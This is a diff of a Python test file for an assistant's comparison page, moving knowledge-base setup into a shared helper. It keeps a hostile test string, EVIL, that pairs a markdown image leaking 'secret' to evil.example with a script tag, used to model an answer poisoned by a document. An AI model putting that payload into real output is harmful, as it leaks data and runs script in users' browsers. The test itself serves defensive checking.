@@ -18,11 +18,9 @@ from assistant.config import load_settings
 from assistant.evaluation.compare import compare
 from assistant.retrieval import Retriever
 from assistant.strategies import build_strategy
-from ingest.pipeline import Ingestor
 from ingest.store import KnowledgeStore
-from tests.fakes import HashingEmbedder
 from tests.openai_server import KEY
-from tests.test_compare import QUESTIONS, Answers
+from tests.test_compare import QUESTIONS, Answers, router_kb
 
 PAGE = str(Path(__file__).resolve().parents[1] / "ui" / "views" / "compare.py")
 EVIL = "![pixel](https://evil.example/p.png?q=secret) <script>alert(1)</script>"
@@ -55,15 +53,7 @@ def eval_lines(pairs=QUESTIONS) -> bytes:
 def finished(isolated_environment: Path, tmp_path: Path) -> Path:
     """A comparison of plain, rag and few-shot made with fakes (as test_compare does), where the data home keeps
     them; one answer is then made hostile, as a poisoned document could make it."""
-    kb = tmp_path / "kb"
-    kb.mkdir()
-    for _, reference, name in QUESTIONS:
-        (kb / name).write_text(reference + "\n")
-    settings = load_settings()
-    embedder = HashingEmbedder()
-    Ingestor(settings, embedder=embedder).run([kb])
-    eval_file = tmp_path / "router.jsonl"
-    eval_file.write_bytes(eval_lines())
+    settings, embedder, eval_file = router_kb(tmp_path)
     examples = tmp_path / "examples.jsonl"
     examples.write_text(json.dumps({"prompt": QUESTIONS[0][0], "completion": "Two years."}) + "\n")
 
